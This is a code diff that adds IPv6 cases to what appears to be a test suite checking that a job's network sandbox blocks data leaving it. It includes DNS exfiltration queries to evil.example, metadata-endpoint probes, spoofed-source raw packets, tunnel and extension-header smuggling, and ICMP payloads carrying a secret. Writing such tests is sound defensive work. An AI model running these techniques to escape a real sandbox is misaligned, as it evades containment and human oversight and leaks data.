@@ -11,6 +11,7 @@ import sys
 
 LISTED, PORT, UNLISTED = sys.argv[1], int(sys.argv[2]), sys.argv[3]
 RESOLVER = "169.254.1.53"
+LISTED6, UNLISTED6 = "2600::8", "2600::9"
 SECRET = b"secret-of-the-job"
 TRIES = {}
 
@@ -278,7 +279,158 @@ def source_port_of_a_connection_that_is_open():
         raw(6, UNLISTED, tcp_packet(UNLISTED, PORT, 0x18, source_port=port))
 
 
+# The same in IPv6, which the job has or not.
+
+
+def every(addresses, port=None):
+    heard = None
+    for address in addresses:
+        for way in (udp, tcp):
+            try:
+                way(address, port or PORT, family=socket.AF_INET6)
+            except OSError as why:
+                heard = why
+    if heard:
+        raise heard
+
+
+@attempt
+def ipv6_unlisted():
+    every([UNLISTED6, "2600:f::1", "2001:4860:4860::8888"])
+
+
+@attempt
+def ipv6_another_port_of_the_listed():
+    every([LISTED6], PORT + 1)
+
+
+@attempt
+def ipv6_question_to_another_resolver():
+    udp(UNLISTED6, 53, family=socket.AF_INET6, payload=question(b"secret.example.org", 28))
+
+
+@attempt
+def ipv6_question_for_aaaa():
+    for kind in (28, 38):
+        udp(RESOLVER, 53, payload=question(b"c2VjcmV0.evil.example", kind))
+
+
+@attempt
+def ipv6_metadata():
+    every(["fd00:ec2::254", "fd20:ce::254", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1"], 80)
+
+
+@attempt
+def ipv6_translations_of_the_unlisted():
+    four = socket.inet_aton(UNLISTED).hex()
+    four = four[:4] + ":" + four[4:]
+    every(["::ffff:" + four, "::" + four, "::ffff:0:" + four, "64:ff9b::" + four, "64:ff9b:1::" + four])
+    every(["2002:" + four + "::1", "2001:0:" + four + "::1", "fe80::5efe:" + four + "%eth0"])
+
+
+@attempt
+def ipv6_host_by_all_its_addresses():
+    every(["2600:f::2", "fd6a:6f62:6c65::a9fe:7f01", "fd6a:6f62:6c65::a9fe:7f02", "fe80::1%eth0", "::"])
+
+
+@attempt
+def ipv6_private_and_site_local_ranges():
+    every(["fd99::9", "fc00::1", "fec0::9", "2001:db8::9", "3fff::9", "100::1", "5f00::1", "4000::1"])
+
+
+@attempt
+def ipv6_multicast():
+    groups = ["ff02::1%eth0", "ff02::2%eth0", "ff05::2", "ff08::1", "ff0e::1", "ff02::fb%eth0"]
+    every(groups + ["ff02::1:ff00:9%eth0"])
+
+
+@attempt
+def ipv6_echo_with_a_payload():
+    for to in (UNLISTED6, LISTED6):
+        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as s:
+            s.connect((to, 0))
+            s.send(b"\x80\0\0\0\0\7\0\7" + SECRET)
+
+
 # What a job has no right to, and root of a namespace has.
+
+
+def own_address6():
+    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
+        s.connect((LISTED6, 9))
+        return s.getsockname()[0]
+
+
+def six(to, protocol, payload, source=None):
+    source = socket.inet_pton(socket.AF_INET6, source or own_address6())
+    destination = socket.inet_pton(socket.AF_INET6, to)
+    return struct.pack(">IHBB", 0x60000000, len(payload), protocol, 64) + source + destination + payload
+
+
+def raw6(to, protocol, payload, **more):
+    packet = six(to, protocol, payload, **more)
+    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
+        s.sendto(packet, (to, 0))
+
+
+@attempt
+def ipv6_raw_udp():
+    raw6(UNLISTED6, 17, udp_packet(PORT))
+
+
+@attempt
+def ipv6_raw_icmp_of_every_kind():
+    for kind in (1, 2, 3, 4, 128, 129, 130, 131, 132, 133, 134, 135, 136, 137, 138, 143, 255):
+        for to in (UNLISTED6, LISTED6):
+            raw6(to, 58, bytes([kind, 0, 0, 0]) + b"\0" * 4 + SECRET)
+
+
+@attempt
+def ipv6_tcp_without_a_handshake():
+    for flags in (0x10, 0x18, 0x01, 0x04, 0x29, 0x00):
+        raw6(UNLISTED6, 6, struct.pack(">HHIIBBHHH", 4445, PORT, 1, 1, 0x50, flags, 1024, 0, 0) + SECRET)
+
+
+@attempt
+def ipv6_behind_extension_headers():
+    packet = udp_packet(PORT)
+    options = bytes([17, 0, 1, 4, 0, 0, 0, 0])
+    for kind in (0, 60):  # hop by hop, destination
+        raw6(UNLISTED6, kind, options + packet)
+    for kind in (0, 2, 4):  # routing headers, by the listed one
+        route = bytes([17, 2, kind, 1, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, UNLISTED6)
+        raw6(UNLISTED6, 43, route + packet)
+        raw6(LISTED6, 43, route + packet)
+    raw6(UNLISTED6, 44, bytes([17, 0, 0, 1, 0, 0, 0, 9]) + packet + b"\0" * 7)
+    raw6(UNLISTED6, 44, bytes([17, 0, 0, 64, 0, 0, 0, 8]) + SECRET)
+    raw6(UNLISTED6, 59, SECRET)
+
+
+@attempt
+def ipv6_tunnels():
+    inner = udp_packet(PORT)
+    for to in (UNLISTED6, LISTED6):
+        raw6(to, 41, six(UNLISTED6, 17, inner))
+        raw6(to, 4, b"\x45" + b"\0" * 19 + SECRET)
+        for protocol in (47, 50, 51, 132, 33, 136, 115, 253):
+            raw6(to, protocol, struct.pack(">HH", 4444, PORT) + SECRET)
+
+
+@attempt
+def ipv6_source_of_a_neighbour():
+    own = own_address6()
+    head = own.rsplit(":", 1)[0]
+    for last in range(2, 8):
+        raw6(UNLISTED6, 17, udp_packet(PORT), source=f"{head}:{last:x}")
+        raw6(LISTED6, 17, udp_packet(PORT), source=f"{head}:{last:x}")
+
+
+@attempt
+def ipv6_source_of_nobody():
+    for source in ("::", "::1", "fe80::1", "2600::5", "2600:f::2", "fd6a:6f62:6c65:1::ac15:2", "ff02::1"):
+        for to in (UNLISTED6, LISTED6):
+            raw6(to, 17, udp_packet(PORT), source=source)
+
 
 
 @attempt
@@ -408,6 +560,25 @@ def frames_of_its_own():
             s.send(to + own + b"\x81\0\0\x05\x08\0" + packet)
             s.send(to + own + b"\x86\xdd" + b"\x60" + b"\0" * 39 + SECRET)
             s.send(to + own + b"\x88\xb5" + SECRET)
+
+
+@attempt
+def ipv6_frames_of_its_own():
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
+        s.bind(("eth0", 0x86DD))
+        own = s.getsockname()[4]
+        payload = udp_packet(PORT)
+        for packet in (
+            six(UNLISTED6, 17, payload),
+            six(UNLISTED6, 17, payload, source="fe80::1"),
+            six(UNLISTED6, 17, payload, source="::ffff:8.8.8.8"),
+            six("ff02::1", 17, payload),
+            six("ff02::1", 58, b"\x87\0\0\0\0\0\0\0" + socket.inet_pton(socket.AF_INET6, UNLISTED6)),
+            six("ff02::1", 58, b"\x86\0\0\0\x40\0\xff\xff" + b"\0" * 8),
+        ):
+            for to in (own, b"\xff" * 6, b"\x33\x33\0\0\0\x01"):
+                s.send(to + own + b"\x86\xdd" + packet)
+                s.send(to + own + b"\x08\0" + packet)
 
 
 def run(name):
